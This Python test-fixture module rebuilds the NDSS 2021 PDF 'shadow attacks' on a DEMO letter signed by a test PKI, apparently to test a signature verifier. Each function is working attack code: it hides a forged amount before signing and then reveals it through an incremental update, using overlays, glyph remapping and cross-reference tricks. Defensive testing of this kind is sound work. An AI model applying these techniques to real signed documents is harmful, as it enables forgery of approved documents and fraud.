"""Shadow attacks (Mainka, Mladenov, Rohlmann, NDSS 2021), rebuilt on our own letters.

The PDF Insecurity team at Ruhr-University Bochum published one Jupyter notebook per attack
variant (repository ``RUB-NDS/pdf-attacker``, folder ``shadow-attack``). That repository has
no licence, so nothing of it is copied here: every function below reproduces the *technique*
of one of their demonstrations with our own code, on our own DEMO letter, signed by the test
PKI at PAdES B-LT (see ``SHADOW-SOURCES.md`` for the mapping).

A shadow attack has three steps, and each function here performs all three:

1. the attacker prepares the letter before it is signed, hiding the shadow content in it
   (under an overlay, in an unused object, behind a free cross-reference entry);
2. the official signs it honestly: what the official sees is exactly what is signed;
3. the attacker appends an incremental update that changes no signed byte but makes the
   reader show the shadow content instead.

Step 3 uses pypdf's incremental writer where an ordinary tool could make the change; where the
demonstration's update consists of cross-reference entries only (no new objects), the update
is written by hand, as the notebooks do.
"""

from __future__ import annotations

import datetime as dt
import io
import re
import struct
from dataclasses import dataclass
from typing import TYPE_CHECKING

from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    IndirectObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)

from tests.verify import sigfixtures as fx
from tests.verify.attacks import incremental, written
from tests.verify.hostile import xmp_packet, xref_update

if TYPE_CHECKING:
    from collections.abc import Callable, Mapping, Sequence

    from PIL.Image import Image
    from reportlab.pdfgen.canvas import Canvas

#: Where the amount sits on every shadow letter (x1, y1, x2, y2): the box a test compares.
AMOUNT_BOX = (70, 628, 440, 658)
_FIELD = {"x": 72, "y": 632, "width": 200, "height": 22}


@dataclass(frozen=True)
class Shadowed:
    """One demonstration: the honestly signed letter and the same letter after the attack."""

    signed: bytes
    """The file as the official signed it (B-LT: signature, then DSS), before the attack."""
    attacked: bytes
    """``signed`` plus the attacker's incremental update; no signed byte is changed."""


# -- our letter --------------------------------------------------------------------------------


def _letter(body: Callable[[Canvas], None], *, fields: Sequence[str] = ("Kepala",)) -> bytes:
    """The DEMO letter's frame with ``body`` drawing the amount, plus empty signature fields
    (as our signing flow prepares letters: "Kepala", and "Sekretaris" for a second signer)."""
    from reportlab.lib.pagesizes import A4
    from reportlab.pdfgen.canvas import Canvas

    buffer = io.BytesIO()
    canvas = Canvas(buffer, pagesize=A4, invariant=1, pageCompression=0)
    fx.draw_letter_head(canvas, "Surat Uji Serangan Bayangan (DEMO)", "DEMO naskah uji")
    body(canvas)
    canvas.showPage()
    canvas.save()
    return _with_signature_fields(buffer.getvalue(), fields)


def _with_signature_fields(pdf: bytes, fields: Sequence[str]) -> bytes:
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
    from pyhanko.sign.fields import SigFieldSpec, append_signature_field

    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
    for name, box in zip(fields, (fx.KEPALA_BOX, fx.SEKRETARIS_BOX), strict=False):
        append_signature_field(writer, SigFieldSpec(name, on_page=0, box=box))
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _text_field(canvas: Canvas, name: str, value: str, *, read_only: bool = False) -> None:
    """A borderless text field with an opaque white background over the amount's place."""
    from reportlab.lib.colors import black, white

    canvas.acroForm.textfield(
        name=name,
        value=value,
        borderWidth=0,
        fillColor=white,
        textColor=black,
        fieldFlags="readOnly" if read_only else "",
        **_FIELD,
    )


def _sign(pki: fx.TestPki, pdf: bytes, *, certify: bool = False) -> bytes:
    """Signed by the Kepala Dinas at B-LT; ``certify`` makes it a DocMDP P=2 certification."""
    return fx.sign(pki, pdf, pki.kepala, level="B-LT", certify=certify)


def _sign_leniently(pki: fx.TestPki, pdf: bytes) -> bytes:
    """As :func:`_sign`, by a signing tool that reads damaged files leniently.

    pyHanko in its default strict mode refuses to sign a file whose form refers to a free
    object; the demonstration's victim signs with a tolerant tool (the notebook uses
    endesive), so the signature here is made with pyHanko's non-strict reader, and the DSS
    of ``fx.add_dss`` (which reads strictly) is added just as leniently.
    """
    from asn1crypto import crl as asn1_crl
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
    from pyhanko.pdf_utils.reader import PdfFileReader
    from pyhanko.sign import signers
    from pyhanko.sign.fields import SigSeedSubFilter
    from pyhanko.sign.validation.dss import DocumentSecurityStore

    meta = signers.PdfSignatureMetadata(
        field_name="Kepala", md_algorithm="sha256", subfilter=SigSeedSubFilter.PADES
    )
    out = io.BytesIO()
    signers.PdfSigner(meta, pki.signer(pki.kepala), timestamper=pki.timestamper()).sign_pdf(
        IncrementalPdfFileWriter(io.BytesIO(pdf), strict=False),
        existing_fields_only=True,
        output=out,
    )
    signed = out.getvalue()
    reader = PdfFileReader(io.BytesIO(signed), strict=False)
    with_dss = io.BytesIO(signed)
    DocumentSecurityStore.add_dss(
        with_dss,
        reader.embedded_signatures[-1].pkcs7_content,
        certs=[pki.issuing.asn1_cert, pki.root.asn1_cert],
        crls=[
            asn1_crl.CertificateList.load(c)
            for c in pki.crls(at=dt.datetime.now(dt.UTC).replace(microsecond=0))
        ],
        strict=False,
    )
    return with_dss.getvalue()


def _page_widget(writer: PdfWriter, name: str) -> DictionaryObject:
    for annot in writer.pages[0]["/Annots"]:
        widget = annot.get_object()
        if widget.get("/T") == name:
            return widget  # type: ignore[no-any-return]
    raise LookupError(name)


# -- hand-written cross-reference updates ------------------------------------------------------


def _offset_of(data: bytes, number: int) -> int:
    """Where ``number 0 obj`` starts in ``data`` (the newest definition)."""
    found = [m.start(1) for m in re.finditer(rb"(?:^|[\r\n])(%d 0 obj)" % number, data)]
    if not found:
        raise LookupError(number)
    return found[-1]


def _xref_update(
    data: bytes, entries: Mapping[int, tuple[int, bool]], *, body: bytes = b""
) -> bytes:
    """Append ``body`` and a classic xref section listing ``entries`` (number → offset,
    in use), with the previous trailer's ``/Root``, ``/Info``, ``/ID`` and its ``/Prev``.

    The offsets may point anywhere, also back into the signed bytes: that is the whole trick
    of the hide-and-replace demonstrations, whose update carries no object at all. A free
    entry keeps its offset, as the demonstrations write it.
    """
    return xref_update(data, entries, body=body, free_head=True)


def _written_full(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


# -- hide --------------------------------------------------------------------------------------


def _amount_image() -> Image:
    """A white picture of the honest amount: what the official sees over the hidden one."""
    from PIL import Image, ImageDraw, ImageFont

    image = Image.new("RGB", (560, 88), "white")
    ImageDraw.Draw(image).text(
        (8, 18), fx.AMOUNT, fill="black", font=ImageFont.load_default(size=48)
    )
    return image


def hide_via_image(pki: fx.TestPki, *, vector: int = 2) -> Shadowed:
    """RUB "Hide" variant 1, hide via referenced object (notebook
    ``shadow_attack_hide-via-image.ipynb``).

    Before signing: the forged amount is page text, and a picture of the honest amount (an
    image XObject) is painted over it; the catalog carries an XMP metadata stream for later
    use. The update looks like a metadata refresh: it writes a copy of the XMP stream and
    files it under the image's object number, so the picture is no longer an image, nothing
    is painted over the forged amount, and it shows. ``vector=2`` (the notebook's second
    vector) gives the copy the image's number in its object header; ``vector=1`` keeps the
    metadata's own number there and lists the copy twice in the new xref section, once as the
    metadata and once as the image.
    """
    from reportlab.lib.utils import ImageReader

    def body(canvas: Canvas) -> None:
        canvas.drawString(75, 640, fx.HIDDEN)
        canvas.drawImage(ImageReader(_amount_image()), 72, 634, width=140, height=22)

    writer = PdfWriter(clone_from=io.BytesIO(_letter(body)))
    xmp = StreamObject()
    xmp.set_data(xmp_packet("Surat Uji Serangan Bayangan (DEMO)", "honorarium, DEMO"))
    xmp[NameObject("/Type")] = NameObject("/Metadata")
    xmp[NameObject("/Subtype")] = NameObject("/XML")
    writer.root_object[NameObject("/Metadata")] = writer._add_object(xmp)
    signed = _sign(pki, _written_full(writer))

    reader = PdfReader(io.BytesIO(signed))
    image_ref = next(
        ref
        for ref in reader.pages[0]["/Resources"]["/XObject"].values()
        if ref.get_object().get("/Subtype") == "/Image"
    )
    metadata_ref = reader.trailer["/Root"].raw_get("/Metadata")
    if vector == 1:
        start = _offset_of(signed, metadata_ref.idnum)
        end = signed.index(b"endobj", start) + len(b"endobj")
        copy = b"\n" + signed[start:end] + b"\n"
        at = len(signed) + 1
        entries = {metadata_ref.idnum: (at, True), image_ref.idnum: (at, True)}
        return Shadowed(signed, _xref_update(signed, entries, body=copy))
    attack = incremental(signed)
    metadata = attack.get_object(metadata_ref.idnum)
    copy_stream = DecodedStreamObject()
    copy_stream.set_data(metadata.get_data())
    for key in ("/Type", "/Subtype"):
        copy_stream[NameObject(key)] = metadata[key]
    attack._replace_object(image_ref.idnum, copy_stream)
    return Shadowed(signed, written(attack))


def hide_form_over_text(pki: fx.TestPki, *, certify: bool = False) -> Shadowed:
    """RUB "Hide" variant 2, hide text via a form (notebook
    ``shadow_attack_hide_form_over_text.ipynb``).

    Before signing: the forged amount is page text, and the text field "Nominal" with an
    opaque background and the honest amount sits exactly over it. The update redefines the
    field's widget object (same number) as an empty dictionary ``<< >>``: the overlay is gone
    and the forged text below shows.
    """

    def body(canvas: Canvas) -> None:
        canvas.drawString(75, 640, fx.HIDDEN)
        _text_field(canvas, "Nominal", fx.AMOUNT)

    signed = _sign(pki, _letter(body), certify=certify)
    attack = incremental(signed)
    widget = _page_widget(attack, "Nominal")
    attack._replace_object(widget.indirect_reference, DictionaryObject())
    return Shadowed(signed, written(attack))


def hide_form_over_form(
    pki: fx.TestPki, *, certify: bool = False, literal: bool = False
) -> Shadowed:
    """RUB "Hide" variant 2, hide a form via a form (notebook
    ``shadow_attack_hide_form_over_form.ipynb``).

    Before signing: two text fields share one rectangle: first a read-only shadow field with
    the forged amount, then "Nominal" with the honest amount and an opaque background, drawn
    over it. The update changes the stacking order of the two forms: it re-saves the page's
    ``/Annots`` with the shadow field last, so it is drawn on top.

    ``literal=True`` writes the notebook's own update instead: both widgets re-saved
    unchanged, the shadow one first in the file, ``/Annots`` left alone. A conforming reader
    stacks widgets by their ``/Annots`` order, not by their position in the file, so that
    update changes nothing it draws.
    """

    def body(canvas: Canvas) -> None:
        _text_field(canvas, "NominalBayangan", fx.HIDDEN, read_only=True)
        _text_field(canvas, "Nominal", fx.AMOUNT)

    signed = _sign(pki, _letter(body), certify=certify)
    if literal:
        numbers = {
            str(annot.get_object()["/T"]): annot.idnum
            for annot in PdfReader(io.BytesIO(signed)).pages[0]["/Annots"]
            if annot.get_object().get("/FT") == "/Tx"
        }
        copies, entries = b"", {}
        for name in ("NominalBayangan", "Nominal"):
            start = _offset_of(signed, numbers[name])
            entries[numbers[name]] = (len(signed) + len(copies) + 1, True)
            copies += b"\n" + signed[start : signed.index(b"endobj", start) + len(b"endobj")]
        return Shadowed(signed, _xref_update(signed, entries, body=copies + b"\n"))
    attack = incremental(signed)
    page = attack.pages[0]
    annots = page["/Annots"]
    below = next(i for i, a in enumerate(annots) if a.get_object().get("/T") == "NominalBayangan")
    reordered = ArrayObject([a for i, a in enumerate(annots) if i != below] + [annots[below]])
    page[NameObject("/Annots")] = reordered
    return Shadowed(signed, written(attack))


# -- replace -----------------------------------------------------------------------------------


def replace_via_overlay(
    pki: fx.TestPki, *, certify: bool = False, countersigned: bool = False
) -> Shadowed:
    """RUB "Replace" variant 1, replace via overlay (notebook
    ``shadow_attack_replace_forms_independent_input.ipynb``).

    Before signing: the text field "Nominal" already holds the forged amount as its value
    (``/V``), but its appearance stream still shows the honest amount, so the official sees
    the honest one. The update lets pypdf's form filling set the same value again and
    regenerate the appearance: the forged amount appears, and the value never changes.

    ``countersigned``: the letter has a second signature field, and after the update the
    Sekretaris signs the letter as it now is (the attacker sits at a later step of the
    approval route); :attr:`Shadowed.attacked` is then the countersigned file.
    """

    def body(canvas: Canvas) -> None:
        _text_field(canvas, "Nominal", fx.AMOUNT)

    fields = ("Kepala", "Sekretaris") if countersigned else ("Kepala",)
    writer = PdfWriter(clone_from=io.BytesIO(_letter(body, fields=fields)))
    _page_widget(writer, "Nominal")[NameObject("/V")] = TextStringObject(fx.HIDDEN)
    signed = _sign(pki, _written_full(writer), certify=certify)
    attack = incremental(signed)
    attack.update_page_form_field_values(
        attack.pages[0], {"Nominal": fx.HIDDEN}, auto_regenerate=False
    )
    attacked = written(attack)
    if countersigned:
        attacked = fx.sign(pki, attacked, pki.sekretaris, field_name="Sekretaris", level="B-LT")
    return Shadowed(signed, attacked)


def _font_program(reader: PdfReader) -> tuple[int, bytes, dict[str, int]]:
    """The embedded TrueType program of the page's subset font: object number, bytes, and
    the character code of each character (from its ``/ToUnicode`` map)."""
    for ref in reader.pages[0]["/Resources"]["/Font"].values():
        font = ref.get_object()
        if font.get("/Subtype") != "/TrueType":
            continue
        program_ref = font["/FontDescriptor"].raw_get("/FontFile2")
        cmap = font["/ToUnicode"].get_data()
        codes = {
            chr(int(uni, 16)): int(code, 16)
            for code, uni in re.findall(rb"<([0-9A-Fa-f]{2})>\s*<([0-9A-Fa-f]{4})>", cmap)
        }
        return program_ref.idnum, program_ref.get_object().get_data(), codes
    raise LookupError("no embedded TrueType font")


def _remap_glyph(program: bytes, code: int, shown_as: int) -> bytes:
    """The font program with character ``code`` drawn with the glyph of ``shown_as``.

    Our subset fonts have one ``cmap`` subtable of format 6 (a trimmed table: first code,
    count, one glyph index per code), so the change is one 16-bit entry.
    """
    num_tables = struct.unpack_from(">H", program, 4)[0]
    for index in range(num_tables):
        tag, _checksum, offset, _length = struct.unpack_from(">4sLLL", program, 12 + 16 * index)
        if tag == b"cmap":
            break
    else:
        raise LookupError("cmap")
    subtable = offset + struct.unpack_from(">L", program, offset + 8)[0]
    fmt, _length, _language, first, count = struct.unpack_from(">HHHHH", program, subtable)
    if fmt != 6 or not (first <= code < first + count and first <= shown_as < first + count):
        raise ValueError("unexpected cmap subtable")
    glyphs = subtable + 10
    glyph = struct.unpack_from(">H", program, glyphs + 2 * (shown_as - first))[0]
    out = bytearray(program)
    struct.pack_into(">H", out, glyphs + 2 * (code - first), glyph)
    return bytes(out)


def replace_via_font(pki: fx.TestPki) -> Shadowed:
    """RUB "Replace" variant 2, replace via overwrite (notebook
    ``shadow_attack_replace_fonts.ipynb``).

    Before signing: the amount is set in an embedded TrueType font (Bitstream Vera, shipped
    with reportlab) that also has the glyph "9" (budget code). The update overwrites the
    embedded font program (same object number) with a manipulated copy in which the code of
    "1" draws the glyph of "9": the page shows the forged amount while its text, and what is
    copied or searched, still says the honest one.
    """
    from reportlab.pdfbase.pdfmetrics import registerFont
    from reportlab.pdfbase.ttfonts import TTFont

    registerFont(TTFont("DemoVera", "Vera.ttf"))

    def body(canvas: Canvas) -> None:
        canvas.setFont("DemoVera", 11)
        canvas.drawString(75, 640, fx.AMOUNT)
        canvas.drawString(72, 580, "Kode anggaran: 5.2.09")

    signed = _sign(pki, _letter(body))
    number, program, codes = _font_program(PdfReader(io.BytesIO(signed)))
    attack = incremental(signed)
    attack.get_object(number).set_data(_remap_glyph(program, codes["1"], codes["9"]))
    return Shadowed(signed, written(attack))


# -- hide-and-replace --------------------------------------------------------------------------


def _shadow_contents(writer: PdfWriter) -> IndirectObject:
    """A second content stream for page 1: the same letter with the forged amount."""
    data = writer.pages[0].get_contents().get_data()  # type: ignore[union-attr]
    forged = data.replace(f"({fx.AMOUNT})".encode(), f"({fx.HIDDEN})".encode())
    assert forged != data
    stream = DecodedStreamObject()
    stream.set_data(forged)
    return writer._add_object(stream)


def _amount_as_text(canvas: Canvas) -> None:
    canvas.drawString(75, 640, fx.AMOUNT)


def hide_and_replace_pages(pki: fx.TestPki) -> Shadowed:
    """RUB "Hide-and-Replace" variant 1, change object references (notebook
    ``shadow_attack_hide-and-replace_v1.ipynb``).

    Before signing: a whole shadow document sits unused in the file: a content stream with
    the forged amount, a page using it (same resources and widgets) and a page tree node
    listing that page. The node's object header carries the *number of the real page tree
    node* while its xref entry keeps its own number, so the honest tree is what is read. The
    update is an xref section with a single entry and no object: the page tree's number now
    points at the shadow node's offset, inside the signed bytes.
    """
    writer = PdfWriter(clone_from=io.BytesIO(_letter(_amount_as_text)))
    page = writer.pages[0]
    pages_ref = writer.root_object.raw_get("/Pages")
    shadow_page = DictionaryObject({k: v for k, v in page.items() if k != "/Contents"})
    shadow_page[NameObject("/Contents")] = _shadow_contents(writer)
    shadow_page[NameObject("/Parent")] = pages_ref
    shadow_tree = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Pages"),
            NameObject("/Kids"): ArrayObject([writer._add_object(shadow_page)]),
            NameObject("/Count"): NumberObject(1),
        }
    )
    shadow_number = writer._add_object(shadow_tree).idnum
    prepared = _written_full(writer)
    # The notebook's renumbering: the shadow node's header takes the real node's number
    # (padded to the same length, so no offset moves).
    start = _offset_of(prepared, shadow_number)
    old = b"%d 0 obj" % shadow_number
    new = b"%d 0 obj" % pages_ref.idnum
    assert len(new) <= len(old)
    new += b" " * (len(old) - len(new))
    prepared = prepared[:start] + new + prepared[start + len(old) :]
    signed = _sign(pki, prepared)
    return Shadowed(signed, _xref_update(signed, {pages_ref.idnum: (start, True)}))


def hide_and_replace_contents(pki: fx.TestPki) -> Shadowed:
    """RUB "Hide-and-Replace" variant 1, change object references, one level down (notebook
    ``shadow_attack_hide-and-replace_v1.ipynb`` redirects the page tree; this redirects the
    page's content).

    Before signing: a second content stream with the forged amount sits unused in the file.
    The update re-saves only the page dictionary, its ``/Contents`` now referring to that
    stream, which was signed with everything else.
    """
    writer = PdfWriter(clone_from=io.BytesIO(_letter(_amount_as_text)))
    shadow_number = _shadow_contents(writer).idnum
    signed = _sign(pki, _written_full(writer))
    attack = incremental(signed)
    attack.pages[0][NameObject("/Contents")] = IndirectObject(shadow_number, 0, attack)
    return Shadowed(signed, written(attack))


def hide_and_replace_xref(pki: fx.TestPki, *, whole_widgets: bool = True) -> Shadowed:
    """RUB "Hide-and-Replace" variant 2, change object usage (notebook
    ``shadow_attack_hide-and-replace_v2.ipynb``).

    Before signing: two text fields at the same place, "Nominal" with the honest amount and
    "NominalBayangan" (drawn on top) with the forged one. The shadow field's widget and
    appearance stream are in the file and referenced, but their xref entries say *free*, so
    a reader finds nothing there. The update is an xref section and no object: it marks the
    honest widget and appearance free and the shadow ones in use again, at their signed
    offsets.

    ``whole_widgets=False`` frees only the appearance streams (the notebook frees every
    object that holds the text, widget and appearance alike): the form then never refers to
    a free object, and pyHanko signs it in its strict mode.
    """

    def body(canvas: Canvas) -> None:
        _text_field(canvas, "Nominal", fx.AMOUNT)
        _text_field(canvas, "NominalBayangan", fx.HIDDEN)

    prepared = _letter(body)
    reader = PdfReader(io.BytesIO(prepared))
    objects: dict[str, list[int]] = {}
    for annot in reader.pages[0]["/Annots"]:
        widget = annot.get_object()
        if widget.get("/FT") == "/Tx":
            appearance = widget["/AP"].raw_get("/N").idnum
            objects[widget["/T"]] = [annot.idnum, appearance] if whole_widgets else [appearance]
    offsets = {n: _offset_of(prepared, n) for ns in objects.values() for n in ns}
    for number in objects["NominalBayangan"]:
        entry = b"%010d 00000 n" % offsets[number]
        assert prepared.count(entry) == 1
        prepared = prepared.replace(entry, b"%010d 00000 f" % offsets[number])
    signed = _sign_leniently(pki, prepared) if whole_widgets else _sign(pki, prepared)
    entries = {n: (offsets[n], False) for n in objects["Nominal"]}
    entries |= {n: (offsets[n], True) for n in objects["NominalBayangan"]}
    return Shadowed(signed, _xref_update(signed, entries))


#: Every demonstration, by the name the tests use.
DEMOS: dict[str, Callable[[fx.TestPki], Shadowed]] = {
    "hide: image renumbered as metadata (vector 2)": hide_via_image,
    "hide: image xref points at metadata (vector 1)": lambda pki: hide_via_image(pki, vector=1),
    "hide: form over text, widget emptied": hide_form_over_text,
    "hide: form over text, certified P=2": lambda pki: hide_form_over_text(pki, certify=True),
    "hide: form over form, stacking swapped": hide_form_over_form,
    "hide: form over form, certified P=2": lambda pki: hide_form_over_form(pki, certify=True),
    "replace: value set, appearance regenerated": replace_via_overlay,
    "replace: overlay, certified P=2": lambda pki: replace_via_overlay(pki, certify=True),
    "replace: embedded font overwritten": replace_via_font,
    "hide-and-replace: page tree redirected by xref": hide_and_replace_pages,
    "hide-and-replace: page contents swapped": hide_and_replace_contents,
    "hide-and-replace: xref in-use flags swapped": hide_and_replace_xref,
    "hide-and-replace: xref flags of appearances swapped": lambda pki: hide_and_replace_xref(
        pki, whole_widgets=False
    ),
}
